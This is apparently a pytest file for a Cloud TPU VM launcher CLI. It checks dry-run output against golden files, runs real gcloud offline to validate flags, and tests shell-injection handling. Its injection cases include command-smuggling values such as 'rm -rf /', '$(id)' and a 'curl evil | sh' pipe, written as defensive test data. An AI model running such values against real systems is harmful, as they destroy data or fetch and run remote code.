@@ -1,0 +1,414 @@
+"""Tests for `python -m launch tpu-vm`: golden dry runs, real gcloud parsing, injection.
+
+Golden files hold the dry-run output of a fixed set of invocations (INVOCATIONS);
+`JAXJOB_UPDATE_GOLDENS=1 pytest tests/test_tpu_vm.py` rewrites them. Every gcloud command
+those dry runs print is then handed to the real `gcloud` with an empty config directory:
+it must get past argument parsing and stop at "no active account". The remote scripts
+run here under bash with stub `docker`/`python3`/`gcloud`/`sudo` that record their argv.
+"""
+
+import concurrent.futures
+import json
+import os
+import pathlib
+import re
+import shlex
+import shutil
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+from unittest import mock
+
+import pytest
+
+from launch import __main__ as launch_main
+from launch import common, tpu_vm
+
+ROOT = pathlib.Path(__file__).resolve().parents[1]
+GOLDEN_DIR = ROOT / "tests" / "golden" / "tpu_vm"
+DOCS = ROOT / "docs" / "tpu-vm.md"
+UPDATE = os.environ.get("JAXJOB_UPDATE_GOLDENS") == "1"
+
+_V4 = ["--name=demo-v4", "--zone=us-central2-b", "--project=my-project"]
+_V6E = ["--name=demo-v6e", "--zone=us-east5-b", "--project=my-project"]
+_IMAGE = "--image=us-docker.pkg.dev/my-project/jaxjob/jaxjob:tpu"
+# Each invocation (without --dry-run) is a command the walk-through may use.
+INVOCATIONS = {
+    "create_v4_spot": ["create", *_V4, "--accelerator-type=v4-8", "--spot"],
+    "create_v5e": ["create", "--name=demo-v5e", "--zone=us-west4-a", "--project=my-project",
+                   "--accelerator-type=v5litepod-8"],
+    "create_v6e_queued_spot": ["create", *_V6E, "--accelerator-type=v6e-16", "--queued",
+                               "--spot", "--valid-until-duration=6h"],
+    "create_v5p_queued_version": ["create", "--name=demo-v5p", "--zone=us-east5-a",
+                                  "--project=my-project", "--accelerator-type=v5p-16",
+                                  "--queued", "--version=v2-alpha-tpuv5", "--owner=ml-team"],
+    "create_v6e_flex_start": ["create", "--name=demo-flex", "--zone=us-east5-a",
+                              "--project=my-project", "--accelerator-type=v6e-8", "--queued",
+                              "--flex-start", "--max-runtime=4h", "--valid-until-duration=2h"],
+    "run_v4_image": ["run", *_V4, _IMAGE, "--workdir=gs://my-bucket/runs/demo-v4", "--",
+                     "--config=trainer/configs/breast_cancer.py"],
+    "run_v6e_image": ["run", *_V6E, _IMAGE, "--workdir=gs://my-bucket/runs/demo-v6e", "--",
+                      "--config=trainer/configs/mobile_price.py",
+                      "--config.data.path=gs://my-bucket/data/mobile-price/train.csv"],
+    "run_v4_pip_git": ["run", *_V4,
+                       "--pip-spec=jaxjob[tpu] @ git+https://github.com/example/jaxjob@v0.1.0",
+                       "--workdir=gs://my-bucket/runs/demo-v4-pip", "--",
+                       "--config=trainer/configs/breast_cancer.py"],
+    "run_v6e_pip_gs_wheel": ["run", *_V6E,
+                             "--pip-spec=gs://my-bucket/wheels/jaxjob-0.1.0-py3-none-any.whl[tpu]",
+                             "--workdir=gs://my-bucket/runs/demo-v6e-pip"],
+    "logs_v4": ["logs", *_V4, "--workers=1"],
+    "logs_v6e": ["logs", *_V6E],
+    "logs_v6e_no_follow": ["logs", *_V6E, "--workers=4", "--no-follow"],
+    "status_v4": ["status", *_V4],
+    "status_v6e_queued": ["status", *_V6E, "--queued"],
+    "status_orphans": ["status", "--zone=us-east5-b", "--project=my-project"],
+    "delete_v4": ["delete", *_V4],
+    "delete_v6e_queued": ["delete", *_V6E, "--queued"],
+}
+
+_GCLOUD_ENV = {
+    "CLOUDSDK_CORE_DISABLE_PROMPTS": "1", "GCE_METADATA_ROOT": "127.0.0.1:9",
+    "GCE_METADATA_HOST": "127.0.0.1:9", "GCE_METADATA_IP": "127.0.0.1:9",
+    "NO_GCE_CHECK": "true", "CLOUDSDK_CORE_CHECK_GCE_METADATA": "false",
+}
+_NO_ACCOUNT = "You do not currently have an active account selected"
+
+
+class _NoSubprocess:
+  """Stands in for `subprocess` inside the launcher: tests must never run a command."""
+
+  def __getattr__(self, name):
+    raise AssertionError(f"the launcher tried to run a command (subprocess.{name})")
+
+
+def with_dry_run(argv):
+  return [argv[0], "--dry-run", *argv[1:]]  # Before any `--`, after which all is trainer's.
+
+
+def cli(argv, capsys, user="alice"):
+  """Runs `python -m launch tpu-vm ARGV` in-process; returns (code, stdout, stderr)."""
+  with mock.patch.object(common, "subprocess", _NoSubprocess()), \
+       mock.patch.object(tpu_vm, "subprocess", _NoSubprocess()), \
+       mock.patch.dict(os.environ, {"USER": user}):
+    return _cli(argv, capsys)
+
+
+def _cli(argv, capsys):
+  # The parser class of `python -m launch`, without importing the other launchers.
+  parser_class = launch_main._Parser  # pylint: disable=protected-access
+  parser = parser_class(prog="python -m launch")
+  subparsers = parser.add_subparsers(dest="command", required=True, parser_class=parser_class)
+  tpu_vm.add_parser(subparsers)
+  try:
+    args = parser.parse_args(["tpu-vm", *argv])
+    code = args.func(args)
+  except SystemExit as e:
+    code = e.code
+  except common.UsageError as e:
+    print(f"error: {e}", file=sys.stderr)
+    code = 2
+  out, err = capsys.readouterr()
+  return code, out, err
+
+
+def dry_run_text(name, capsys):
+  code, out, err = cli(with_dry_run(INVOCATIONS[name]), capsys)
+  assert (code, err) == (0, ""), err
+  header = shlex.join(["python", "-m", "launch", "tpu-vm", *with_dry_run(INVOCATIONS[name])])
+  return f"# {header}\n{out}"
+
+
+def printed_commands(text):
+  """The argv of every `$ ` command in dry-run text (a quoted one may span lines)."""
+  commands, pending = [], None
+  for line in text.splitlines(keepends=True):
+    if pending is None and not line.startswith("$ "):
+      continue
+    pending = line[2:] if pending is None else pending + line
+    try:
+      commands.append(shlex.split(pending))
+      pending = None
+    except ValueError:  # An open quote: the argument goes on on the next line.
+      pass
+  assert pending is None, f"unterminated command: {pending!r}"
+  return commands
+
+
+@pytest.mark.parametrize("name", sorted(INVOCATIONS))
+def test_dry_run_matches_golden(name, capsys):
+  text = dry_run_text(name, capsys)
+  path = GOLDEN_DIR / f"{name}.txt"
+  if UPDATE:
+    GOLDEN_DIR.mkdir(parents=True, exist_ok=True)
+    path.write_text(text)
+  assert path.exists(), f"missing {path}: run with JAXJOB_UPDATE_GOLDENS=1"
+  assert text == path.read_text(), f"{path} differs: run with JAXJOB_UPDATE_GOLDENS=1"
+
+
+def test_no_stale_goldens():
+  assert {p.stem for p in GOLDEN_DIR.glob("*.txt")} == set(INVOCATIONS)
+
+
+@pytest.mark.parametrize("name", sorted(INVOCATIONS))
+def test_printed_scripts_and_commands_agree(name, capsys):
+  text = dry_run_text(name, capsys)
+  commands = printed_commands(text)
+  assert commands and all(argv[0] == "gcloud" for argv in commands)
+  scripts = re.findall(r"((?:^#\| .*\n)+)", text, flags=re.M)
+  shown = ["".join(line[3:] + "\n" for line in s.splitlines()) for s in scripts]
+  sent = [a[len("--command="):] for argv in commands for a in argv if a.startswith("--command=")]
+  assert shown == sent
+
+
+def test_entry_point_prints_the_golden():
+  argv = INVOCATIONS["create_v6e_queued_spot"]
+  proc = subprocess.run([sys.executable, "-m", "launch", "tpu-vm", *with_dry_run(argv)],
+                        cwd=ROOT, capture_output=True, text=True, check=False,
+                        env=dict(os.environ, USER="alice"))
+  assert proc.returncode == 0, proc.stderr
+  golden = (GOLDEN_DIR / "create_v6e_queued_spot.txt").read_text()
+  assert golden.split("\n", 1)[1] == proc.stdout
+
+
+def _gcloud_verdict(argv, tmp_path):
+  """Runs real gcloud offline; returns '' when it parsed argv, else the reason."""
+  config_dir = tempfile.mkdtemp(dir=tmp_path)  # Empty, and one per concurrent gcloud.
+  env = dict(os.environ, CLOUDSDK_CONFIG=config_dir, **_GCLOUD_ENV)
+  proc = subprocess.run(argv, env=env, capture_output=True, text=True, timeout=60,
+                        check=False, stdin=subprocess.DEVNULL)
+  errors = [l for l in proc.stderr.splitlines() if l.startswith("ERROR")]
+  if proc.returncode == 1 and len(errors) == 1 and _NO_ACCOUNT in errors[0]:
+    return ""
+  return f"rc={proc.returncode}: {proc.stderr.strip()[:300]}"
+
+
+def test_real_gcloud_parses_every_command(capsys, tmp_path):
+  # No skip: CI machines have the Google Cloud SDK, and this is the check that
+  # catches a wrong flag.
+  assert shutil.which("gcloud"), "gcloud (Google Cloud SDK) must be on PATH for this test"
+  commands = {}
+  for name in INVOCATIONS:
+    for argv in printed_commands(dry_run_text(name, capsys)):
+      commands.setdefault(tuple(argv), name)
+  wrong = [  # The same check must reject a wrong flag.
+      ("bogus flag", [*next(iter(commands)), "--bogus-flag"]),
+      ("QR --version", ["gcloud", "compute", "tpus", "queued-resources", "create", "q",
+                        "--zone=us-central2-b", "--project=p", "--node-id=q",
+                        "--accelerator-type=v4-8", "--version=x"]),
+  ]
+  jobs = [*((name, list(argv)) for argv, name in commands.items()), *wrong]
+  with concurrent.futures.ThreadPoolExecutor(4) as pool:
+    verdicts = list(pool.map(lambda job: _gcloud_verdict(job[1], tmp_path), jobs))
+  results = list(zip(jobs, verdicts))
+  assert len(commands) >= 15
+  failed = [(name, shlex.join(argv)[:200], v) for (name, argv), v in results[:-2] if v]
+  assert not failed, failed
+  assert all("rc=2" in v for _, v in results[-2:]), results[-2:]
+
+
+@pytest.mark.parametrize("argv", [
+    ["delete", "--name=demo;rm -rf /", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=$(id)", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=Demo", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=demo\n", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=a: b", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name='x'", "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=" + "x" * 64, "--zone=us-central2-b", "--project=p-123456"],
+    ["delete", "--name=demo", "--zone=us-central2-b;id", "--project=p-123456"],
+    ["delete", "--name=demo", "--zone=us-central2-b\n", "--project=p-123456"],
+    ["delete", "--name=demo", "--zone=us-central2-b", "--project=p-123456 --quiet"],
+    ["create", *_V4, "--accelerator-type=v4-8 --spot"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--version=x$(id)"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--valid-until-duration=6h;id"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--queued", "--max-runtime=6h\n"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--owner=Alice Smith"],
+    ["create", *_V4, "--accelerator-type=v4-8", "--owner={a: [1]}"],
+    ["create", *_V4, "--accelerator-type=v7x-8"],  # No known runtime: needs --version.
+    ["create", *_V4, "--accelerator-type=v4-8", "--valid-until-duration=6h"],  # Not queued.
+    ["create", *_V4, "--accelerator-type=v4-8", "--max-runtime=6h"],
+    ["create", *_V4, "--accelerator-type=v6e-8", "--queued", "--spot", "--flex-start"],
+    ["run", *_V4, "--image=img;id", "--workdir=gs://b-1/r"],
+    ["run", *_V4, "--image=img\n", "--workdir=gs://b-1/r"],
+    ["run", *_V4, "--image=$(id)", "--workdir=gs://b-1/r"],
+    ["run", *_V4, _IMAGE, "--workdir=/local/path"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a b"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/a\nb"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--config.x=a\nrm -rf /"],
+    ["run", *_V4, _IMAGE, "--workdir=gs://b-1/r", "--", "--workdir=gs://other/r"],
+    ["run", *_V4, "--pip-spec=jaxjob\ncurl evil | sh", "--workdir=gs://b-1/r"],
+    ["run", *_V4, _IMAGE, "--pip-spec=jaxjob", "--workdir=gs://b-1/r"],
+    ["logs", *_V4, "--workers=0"],
+    ["status", "--zone=us-central2-b", "--project=my-project", "--owner=a;b"],
+])
+def test_bad_values_are_rejected_before_anything_is_built(argv, capsys):
+  code, out, err = cli(with_dry_run(argv), capsys)
+  assert code == 2
+  assert out == ""  # Nothing was built, so nothing was printed.
+  assert len(err.strip().splitlines()) == 1, err
+
+
+_STUB = f"""#!{sys.executable}
+import json, os, sys, time
+name = os.path.basename(sys.argv[0])
+if name == "sudo":
+  os.execvp(sys.argv[1], sys.argv[1:])
+with open(os.environ["STUB_LOG"], "a") as f:
+  f.write(json.dumps([name, *sys.argv[1:]]) + "\\n")
+if name == "python" and sys.argv[1:2] == ["-c"]:
+  print(os.environ["STUB_ROOT"])
+elif name == "gcloud" and sys.argv[1:3] == ["auth", "print-access-token"]:
+  print("token")
+elif name == "curl":
+  print("3")
+elif sys.argv[1:2] == ["run"] or sys.argv[1:3] == ["-m", "trainer"]:
+  print("training")
+  time.sleep(float(os.environ.get("STUB_SLEEP", "0")))
+  sys.exit(42)
+"""
+
+
+@pytest.fixture
+def remote(tmp_path):
+  """A fake TPU worker: stub commands on PATH, a HOME with the jaxjob venv python."""
+  stubs, home, root = tmp_path / "bin", tmp_path / "home", tmp_path / "site"
+  for d in (stubs, home / "jaxjob-venv" / "bin", root):
+    d.mkdir(parents=True)
+  for path in [stubs / n for n in ("sudo", "docker", "gcloud", "python3", "curl")] + [
+      home / "jaxjob-venv" / "bin" / "python"]:
+    path.write_text(_STUB)
+    path.chmod(0o755)
+  env = {"PATH": f"{stubs}:/usr/bin:/bin", "HOME": str(home), "STUB_ROOT": str(root),
+         "STUB_LOG": str(tmp_path / "calls.jsonl")}
+
+  def execute(script, **extra):
+    return subprocess.run(["bash", "-c", script], env={**env, **extra}, cwd=tmp_path,
+                          capture_output=True, text=True, timeout=30, check=False,
+                          start_new_session=True)
+
+  def calls():
+    with open(env["STUB_LOG"]) as f:
+      return [json.loads(line) for line in f]
+
+  return tmp_path, execute, calls
+
+
+def _wait_for(path, timeout=10.0):
+  deadline = time.monotonic() + timeout
+  while not path.exists() and time.monotonic() < deadline:
+    time.sleep(0.05)
+  assert path.exists(), path
+  return path.read_text()
+
+
+NASTY_ARGS = ["--config=trainer/configs/x.py", "--config.a=$(touch pwned)", "--config.b=`id`",
+              "--config.c=a'b\"c d", "--config.d=;rm -rf / #", "--config.e={a: [1, 2]}",
+              "--config.f=*", "--config.g=JAXJOB_EOF", "--config.h=$HOME", ""]
+NASTY_WORKDIR = "gs://my-bucket/runs/it's$(touch pwned)"
+
+
+@pytest.mark.parametrize("source", ["image", "pip_git", "pip_gs"])
+def test_run_script_passes_each_value_as_one_argument(source, remote):
+  tmp, execute, calls = remote
+  kwargs = {"image": {"image": "us-docker.pkg.dev/p/r/jaxjob:tpu"},
+            "pip_git": {"pip_spec": "jaxjob[tpu] @ git+https://x/y;z'$(touch pwned)"},
+            "pip_gs": {"pip_spec": "gs://b/w/jaxjob-0.1.0-py3-none-any.whl[tpu]"}}[source]
+  script = tpu_vm.run_script("demo", NASTY_WORKDIR, NASTY_ARGS, remote_dir=str(tmp), **kwargs)
+  proc = execute(script)
+  assert proc.returncode == 0, proc.stderr
+  assert _wait_for(tmp / "jaxjob-demo.exit").strip() == "42"
+  trainer = [c for c in calls() if c[1:2] == ["run"] or c[1:3] == ["-m", "trainer"]]
+  expected = [*NASTY_ARGS, f"--workdir={NASTY_WORKDIR}"]
+  if source == "image":
+    assert trainer == [["docker", "run", "--name=jaxjob-demo", "--privileged", "--net=host",
+                        "--init", kwargs["image"], *expected]]
+  else:
+    assert trainer == [["python", "-m", "trainer", *expected]]
+    install = [c for c in calls() if c[:4] == ["python3", "-m", "uv", "pip"]]
+    spec = kwargs["pip_spec"] if source == "pip_git" else (
+        f"jaxjob[tpu] @ file://{tmp}/jaxjob-demo-pkg/jaxjob-0.1.0-py3-none-any.whl")
+    assert install[0][-1] == spec
+  assert "training" in (tmp / "jaxjob-demo.log").read_text()
+  assert not list(tmp.rglob("pwned"))
+
+
+def test_run_refuses_to_start_twice(remote):
+  tmp, execute, _ = remote
+  script = tpu_vm.run_script("demo", "gs://b-1/r", [], image="img:1", remote_dir=str(tmp))
+  first = execute(script, STUB_SLEEP="30")
+  try:
+    assert first.returncode == 0, first.stderr
+    second = execute(script)
+    assert second.returncode == 3
+    assert "already running" in second.stderr
+  finally:
+    pid = int(_wait_for(tmp / "jaxjob-demo.pid"))
+    os.killpg(os.getpgid(pid), signal.SIGTERM)  # The session `first` started.
+
+
+def test_logs_and_status_scripts_on_a_worker(remote):
+  tmp, execute, _ = remote
+  status = tpu_vm.status_script("demo", remote_dir=str(tmp))
+  assert execute(status).stdout == "[worker 3] not started\n"
+  (tmp / "jaxjob-demo.log").write_text("step 1\nstep 2\n")
+  (tmp / "jaxjob-demo.exit").write_text("42\n")
+  (tmp / "jaxjob-demo.pid").write_text("999999999\n")  # No such process: it has ended.
+  expected = "step 1\nstep 2\njaxjob: trainer exited with code 42\n"
+  for follow in (True, False):
+    proc = execute(tpu_vm.logs_script("demo", follow=follow, remote_dir=str(tmp)))
+    assert (proc.returncode, proc.stdout) == (0, expected)
+  assert execute(status).stdout == "[worker 3] exited with code 42\n"
+  live = subprocess.Popen(["sleep", "1"])
+  reaper = threading.Thread(target=live.wait)  # Else the ended sleep lingers as a zombie.
+  reaper.start()
+  (tmp / "jaxjob-demo.pid").write_text(f"{live.pid}\n")
+  assert execute(status).stdout == "[worker 3] running\n"
+  # tail -F --pid: follows while the trainer lives, returns when it ends.
+  proc = execute(tpu_vm.logs_script("demo", remote_dir=str(tmp)))
+  reaper.join()
+  assert proc.stdout == expected
+
+
+def test_stream_workers_prefixes_every_line(tmp_path):
+  out = tmp_path / "out.txt"
+  with open(out, "w") as f:
+    code = tpu_vm.stream_workers([["sh", "-c", "echo a; echo b"],
+                                  ["sh", "-c", "printf 'c\\nd'; exit 5"]], out=f)
+  lines = out.read_text().splitlines()
+  assert code == 5
+  assert [l for l in lines if l.startswith("[worker 0]")] == ["[worker 0] a", "[worker 0] b"]
+  assert [l for l in lines if l.startswith("[worker 1]")] == ["[worker 1] c", "[worker 1] d"]
+
+
+@pytest.mark.parametrize("accelerator, version", [
+    ("v4-8", "tpu-ubuntu2204-base"), ("v5litepod-16", "v2-alpha-tpuv5-lite"),
+    ("v5p-8", "v2-alpha-tpuv5"), ("v6e-256", "v2-alpha-tpuv6e"),
+    ("v3-32", "tpu-ubuntu2204-base")])
+def test_runtime_version_from_accelerator(accelerator, version):
+  assert tpu_vm.runtime_version(accelerator) == version
+
+
+@pytest.mark.parametrize("user, label", [
+    ("alice", "alice"), ("Jane.Doe@Corp", "jane-doe-corp"), ("", "unknown"),
+    (None, "unknown"), ("é", "unknown"), ("x" * 80, "x" * 63)])
+def test_owner_label(user, label):
+  assert tpu_vm.owner_label(user) == label
+
+
+def test_owner_comes_from_user(capsys):
+  code, out, _ = cli(["create", "--dry-run", *_V4, "--accelerator-type=v4-8"], capsys,
+                     user="Bob.Smith")
+  assert code == 0 and "--labels=jaxjob_run=demo-v4,jaxjob_owner=bob-smith" in out
+
+
+def test_walkthrough_uses_only_tested_invocations():
+  text = DOCS.read_text().replace("\\\n", " ")
+  commands = [shlex.split(line) for line in text.splitlines()
+              if line.startswith("python -m launch tpu-vm ")]
+  tested = [["python", "-m", "launch", "tpu-vm", *argv] for argv in INVOCATIONS.values()]
+  assert len(commands) >= 10
+  for argv in commands:
+    assert [a for a in argv if a != "--dry-run"] in tested, shlex.join(argv)
